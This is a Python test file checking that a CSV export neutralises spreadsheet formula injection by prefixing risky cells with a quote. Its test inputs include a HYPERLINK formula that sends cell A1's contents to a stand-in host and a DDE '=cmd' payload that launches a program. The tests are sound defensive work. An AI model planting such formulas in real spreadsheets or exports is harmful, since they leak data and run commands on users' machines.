"""The dossier's inventory CSV: what the provider wrote in a plan's table is shown, never run."""

from __future__ import annotations

import pytest

from classeur.publish.inventory import _csv, inert_cell


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (
            '=HYPERLINK("https://exemple.invalid/?"&A1;"Cliquez")',
            '\'=HYPERLINK("https://exemple.invalid/?"&A1;"Cliquez")',
        ),
        ("+33 4 78 00 00 00", "'+33 4 78 00 00 00"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("Silae", "Silae"),
        ("J-30", "J-30"),
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(cell, written):
    assert inert_cell(cell) == written


def test_every_cell_of_an_inventory_file_is_inert():
    data = _csv(("Système", "Action"), [("=cmd|' /C calc'!A0", "transfert à J0")])
    assert data.decode("utf-8-sig").splitlines()[1] == "'=cmd|' /C calc'!A0;transfert à J0"
